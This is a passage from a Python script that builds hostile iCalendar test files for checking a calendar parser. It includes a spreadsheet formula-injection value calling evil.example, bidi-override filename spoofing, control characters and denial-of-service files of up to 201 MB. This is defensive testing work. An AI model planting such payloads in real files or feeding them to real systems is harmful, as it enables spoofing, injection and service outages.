                'Harmless first line\\n=HYPERLINK("http://evil.example/"\\,"x")',
            )
        )
    )
    f["formula_injection_all_in_one.ics"] = crlf(
        cal(
            *[
                event(
                    f"formula-all-{i}@hostile",
                    f"202611{10 + i}T090000Z",
                    f"202611{10 + i}T100000Z",
                    t.replace(",", "\\,").replace(";", "\\;").replace("\r", ""),
                )
                for i, t in enumerate(formulas.values())
            ]
        )
    )
    f["bidi_override_titles.ics"] = crlf(
        cal(
            event(
                "bidi1@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Factuur \u202egnp.exe\u202c Kestrel",
            ),
            event(
                "bidi2@hostile",
                "20261124T110000Z",
                "20261124T120000Z",
                "\u2067Isolate\u2069 \u2066LRI\u2069 \u200fRLM\u200e LRM \u061cALM",
                who=people(cn="\u202eseirtsnem\u202c"),
            ),
            event(
                "bidi3@hostile",
                "20261124T130000Z",
                "20261124T140000Z",
                "Zero\u200bwidth\u200cjoiner\u200d and \ufeff BOM inside",
            ),
            NORMAL,
        )
    )
    f["control_characters_titles.ics"] = crlf(
        cal(
            event(
                "ctrl@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Bell\x07 Escape\x1b[31mRED\x1b[0m Backspace\x08\x08 DEL\x7f",
            ),
            NORMAL,
        )
    )
    f["escapes_and_backslashes.ics"] = crlf(
        cal(
            event(
                "esc@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Backslash at the end \\",
                'LOCATION;X-PARAM="a\\\\b":C:\\\\Users\\\\x\\n\n',
            ),
            NORMAL,
        )
    )
    f["attendee_odd_addresses.ics"] = crlf(
        cal(
            event(
                "odd-addr@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Odd addresses",
                who=(
                    f"ORGANIZER:MAILTO:{ME.upper()}\n"
                    "ATTENDEE;CN=Ops:mailto:ops@[10.1.2.3]\n"
                    "ATTENDEE;CN=Local:mailto:user@localhost\n"
                    "ATTENDEE;CN=\"O'Brien, Kees\":mailto:kees.o'brien@example.nl\n"
                    "ATTENDEE;CN=No at sign:mailto:nobody\n"
                    'ATTENDEE;CN="Quoted:colon;semi":mailto:q@vexmar.nl\n'
                    "ATTENDEE:urn:uuid:00000000-0000-0000-0000-000000000000\n"
                    "ATTENDEE;CN=Empty:\n"
                ),
            ),
            NORMAL,
        )
    )
    f["organizer_twice.ics"] = crlf(
        cal(
            event(
                "org-twice@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Two organizers",
                who=(
                    f"ORGANIZER:mailto:{ME}\nORGANIZER:mailto:boss@vexmar.nl\n"
                    "ATTENDEE:mailto:piet@kestrel.co.uk\n"
                ),
            ),
            NORMAL,
        )
    )
    f["param_value_tricks.ics"] = crlf(
        cal(
            event(
                "params@hostile",
                ';TZID="Europe/Amsterdam":20261124T090000',
                ";TZID=Europe/Amsterdam;TZID=UTC:20261124T100000",
                "Parameters that repeat and quote",
                who=(
                    'ATTENDEE;CN="a:b;c,d";PARTSTAT="DECLINED";PARTSTAT=ACCEPTED:mailto:x@vexmar.nl\n'
                    f"ORGANIZER;CN=;;;:mailto:{ME}\n"
                ),
            ),
            NORMAL,
            head=HEAD + AMS,
        )
    )
    f["backslash_in_property_head.ics"] = crlf(
        cal(
            event(
                "bs-head@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Backslash in a head",
                who=(
                    'ATTENDEE;CN="Back\\\\slash\\";PARTSTAT=ACCEPTED:mailto:x@vexmar.nl\n'
                    f"ORGANIZER:mailto:{ME}\n"
                ),
            ),
            NORMAL,
        )
    )
    f["class_private_and_confidential.ics"] = crlf(
        cal(
            event(
                "priv@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Privé: tandarts",
                "CLASS:PRIVATE\n",
            ),
            event(
                "conf@hostile",
                "20261124T110000Z",
                "20261124T120000Z",
                "Confidential: overname Vexmar",
                "CLASS:confidential\n",
            ),
            event(
                "xclass@hostile",
                "20261124T130000Z",
                "20261124T140000Z",
                "CLASS with a parameter",
                "CLASS;X-Y=Z:PRIVATE\n",
            ),
            NORMAL,
        )
    )
    f["valarm_with_dtstart_and_summary.ics"] = crlf(
        cal(
            event(
                "alarm@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Event with a tricky alarm",
                "BEGIN:VALARM\nACTION:DISPLAY\nTRIGGER:-PT15M\nDTSTART:20201010T000000Z\n"
                "SUMMARY:ALARM SUMMARY MUST NOT WIN\nUID:alarm-uid\nRRULE:FREQ=SECONDLY\n"
                "END:VALARM\n",
            ),
            NORMAL,
        )
    )
    f["vtodo_vjournal_only.ics"] = crlf(
        cal(
            "BEGIN:VTODO\nUID:todo@hostile\nDTSTART:20261124T090000Z\nDUE:20261124T100000Z\n"
            "SUMMARY:A to-do\nRRULE:FREQ=SECONDLY\nEND:VTODO\n"
            "BEGIN:VJOURNAL\nUID:journal@hostile\nDTSTART:20261124T090000Z\nSUMMARY:A journal\n"
            "END:VJOURNAL\n"
        )
    )
    return f


# -- big files: made at test time, never committed --------------------------------------


def big_files() -> dict[str, object]:
    """name → a function writing the file to a path (streams: no 50 MB strings twice)."""

    def summary_50mb(path: Path) -> None:
        with path.open("wb") as out:
            out.write(crlf(HEAD))
            out.write(
                b"BEGIN:VEVENT\r\nUID:summary50@hostile\r\nDTSTAMP:20261101T080000Z\r\n"
                b"DTSTART:20261124T090000Z\r\nDTEND:20261124T100000Z\r\n"
            )
            out.write(crlf(people()))
            out.write(b"SUMMARY:Kestrel ")
            chunk = b"x" * 73 + b"\r\n "  # folded as a producer would
            for _ in range(50 * 2**20 // len(chunk)):
                out.write(chunk)
            out.write(b"end\r\nEND:VEVENT\r\n")
            out.write(crlf(NORMAL + TAIL))

    def summary_50mb_unfolded(path: Path) -> None:
        with path.open("wb") as out:
            out.write(crlf(HEAD))
            out.write(
                b"BEGIN:VEVENT\r\nUID:summary50u@hostile\r\nDTSTAMP:20261101T080000Z\r\n"
                b"DTSTART:20261124T090000Z\r\nDTEND:20261124T100000Z\r\n"
            )
            out.write(crlf(people()))
            out.write(b"SUMMARY:" + b"y" * (50 * 2**20) + b"\r\nEND:VEVENT\r\n")
            out.write(crlf(NORMAL + TAIL))

    def long_line_location_5mb(path: Path) -> None:
        text = cal(
            event(
                "longloc@hostile",
                "20261124T090000Z",
                "20261124T100000Z",
                "Five MB LOCATION on one line",
                "LOCATION:" + "z" * (5 * 2**20) + "\n",
            ),
            NORMAL,
        )
        path.write_bytes(crlf(text))

    def exdates_100k(path: Path) -> None:
        lines = "".join(
            f"EXDATE:{2026 + i // 500000}{(i // 1440) % 12 + 1:02d}01T"
            f"{(i // 60) % 24:02d}{i % 60:02d}00Z\n"
            for i in range(100_000)
        )
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "exdate100k@hostile",
                        "20261101T090000Z",
                        "20261101T100000Z",
                        "100,000 EXDATE lines",
                        "RRULE:FREQ=DAILY;COUNT=90\n" + lines,
                    ),
                    NORMAL,
                )
            )
        )

    def exdates_100k_one_line(path: Path) -> None:
        values = ",".join(
            f"2026{(i // 86400) % 12 + 1:02d}{(i // 3600) % 28 + 1:02d}T"
            f"{(i // 60) % 24:02d}{i % 60:02d}00Z"
            for i in range(100_000)
        )
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "exdate100k1@hostile",
                        "20261101T090000Z",
                        "20261101T100000Z",
                        "100,000 EXDATEs on one line",
                        "RRULE:FREQ=DAILY;COUNT=90\nEXDATE:" + values + "\n",
                    ),
                    NORMAL,
                )
            )
        )

    def rdates_40k(path: Path) -> None:
        lines = "".join(
            f"RDATE:202611{(i // 1440) % 28 + 1:02d}T{(i // 60) % 24:02d}"
            f"{i % 60:02d}{i % 60:02d}Z\n"
            for i in range(40_000)
        )
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "rdate40k@hostile",
                        "20261101T090000Z",
                        "20261101T091000Z",
                        "40,000 RDATEs",
                        lines,
                    ),
                    NORMAL,
                )
            )
        )

    def vtimezone_rdates_40k(path: Path) -> None:
        rdates = "".join(f"RDATE:{1700 + i // 150}0{i % 9 + 1}01T020000\n" for i in range(40_000))
        zone = (
            "BEGIN:VTIMEZONE\nTZID:Many/Rdates\nBEGIN:STANDARD\nTZOFFSETFROM:+0200\n"
            "TZOFFSETTO:+0100\nDTSTART:17000101T020000\n" + rdates + "END:STANDARD\n"
            "END:VTIMEZONE\n"
        )
        path.write_bytes(
            crlf(
                cal(
                    zone,
                    event(
                        "tzrdates@hostile",
                        ";TZID=Many/Rdates:20261124T090000",
                        ";TZID=Many/Rdates:20261124T100000",
                        "Zone with 40,000 RDATEs",
                    ),
                    NORMAL,
                )
            )
        )

    def properties_50k(path: Path) -> None:
        props = "".join(f"X-PROP-{i}:value {i}\n" for i in range(50_000))
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "props50k@hostile",
                        "20261124T090000Z",
                        "20261124T100000Z",
                        "50,000 X- properties",
                        props,
                    ),
                    NORMAL,
                )
            )
        )

    def used_properties_50k(path: Path) -> None:
        props = "".join(f"LOCATION:Room {i}\n" for i in range(50_000))
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "used50k@hostile",
                        "20261124T090000Z",
                        "20261124T100000Z",
                        "50,000 LOCATION lines",
                        props,
                    ),
                    NORMAL,
                )
            )
        )

    def attendees_20k(path: Path) -> None:
        who = f"ORGANIZER;CN=Sanne de Vries:mailto:{ME}\n" + "".join(
            f"ATTENDEE;CN=Persoon {i};PARTSTAT=ACCEPTED:mailto:p{i}@org{i % 997}.example\n"
            for i in range(20_000)
        )
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "att20k@hostile",
                        "20261124T090000Z",
                        "20261124T100000Z",
                        "20,000 attendees",
                        who=who,
                    ),
                    event(
                        "att20k-rec@hostile",
                        "20261102T090000Z",
                        "20261102T100000Z",
                        "20,000 attendees, weekly",
                        "RRULE:FREQ=WEEKLY;COUNT=8\n",
                        who=who,
                    ),
                    NORMAL,
                )
            )
        )

    def cn_parameter_1mb(path: Path) -> None:
        who = (
            f'ORGANIZER:mailto:{ME}\nATTENDEE;CN="' + "n" * 2**20 + '":mailto:piet@kestrel.co.uk\n'
        )
        path.write_bytes(
            crlf(
                cal(
                    event(
                        "cn1mb@hostile",
                        "20261124T090000Z",
                        "20261124T100000Z",
                        "1 MB CN parameter",
                        who=who,
                    ),
                    NORMAL,
                )
            )
        )

    def events_100k(path: Path) -> None:
        with path.open("wb") as out:
            out.write(crlf(HEAD))
            for i in range(100_000):
                day, minute = 2 + i % 28, i % 600
                out.write(
                    crlf(
                        event(
                            f"flood-{i}@hostile",
                            f"202611{day:02d}T{8 + minute // 60:02d}{minute % 60:02d}00Z",
                            f"202611{day:02d}T{9 + minute // 60:02d}{minute % 60:02d}00Z",
                            f"Klantgesprek {i}",
                        )
                    )
                )
            out.write(crlf(TAIL))

    def nested_100k(path: Path) -> None:
        nest = "".join("BEGIN:X-N\n" for _ in range(100_000))
        unnest = "".join("END:X-N\n" for _ in range(100_000))
        path.write_bytes(crlf(cal(nest, NORMAL, unnest)))

    def vevents_nested_10k(path: Path) -> None:
        nest = "".join(
            f"BEGIN:VEVENT\nUID:n{i}@hostile\nDTSTART:20261124T090000Z\n"
            f"DTEND:20261124T100000Z\nSUMMARY:nested {i}\n"
            for i in range(10_000)
        )
        path.write_bytes(crlf(cal(nest + "END:VEVENT\n" * 10_000, NORMAL)))

    def file_201mb(path: Path) -> None:
        with path.open("wb") as out:
            out.write(crlf(cal(NORMAL)).replace(b"END:VCALENDAR\r\n", b""))
            line = b"X-PADDING:" + b"p" * 1000 + b"\r\n"
            for _ in range(201 * 2**20 // len(line) + 1):
                out.write(line)
            out.write(b"END:VCALENDAR\r\n")

    return {
        "big_summary_50mb_folded.ics": summary_50mb,
        "big_summary_50mb_one_line.ics": summary_50mb_unfolded,
        "big_long_line_location_5mb.ics": long_line_location_5mb,
        "big_exdate_100k_lines.ics": exdates_100k,
        "big_exdate_100k_one_line.ics": exdates_100k_one_line,
        "big_rdate_40k.ics": rdates_40k,
        "big_vtimezone_rdate_40k.ics": vtimezone_rdates_40k,
        "big_x_properties_50k.ics": properties_50k,
        "big_location_lines_50k.ics": used_properties_50k,
        "big_attendees_20k.ics": attendees_20k,
        "big_cn_parameter_1mb.ics": cn_parameter_1mb,
        "big_events_100k.ics": events_100k,
        "big_nested_components_100k.ics": nested_100k,
        "big_vevents_nested_10k.ics": vevents_nested_10k,
        "big_file_201mb.ics": file_201mb,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE, help="where the small files go")
    parser.add_argument("--big", type=Path, help="also write the big files into this folder")
    parser.add_argument("--only", nargs="*", help="only these big files")
    args = parser.parse_args()
    args.out.mkdir(parents=True, exist_ok=True)
    for name, data in small_files().items():
        (args.out / name).write_bytes(data)
    print(f"{len(small_files())} small files in {args.out}")
    if args.big:
        args.big.mkdir(parents=True, exist_ok=True)
        for name, write in big_files().items():
            if args.only and name not in args.only:
                continue
            target = args.big / name
            if not target.exists():
                write(target)
        print(f"{len(big_files())} big files in {args.big}")


if __name__ == "__main__":
    main()
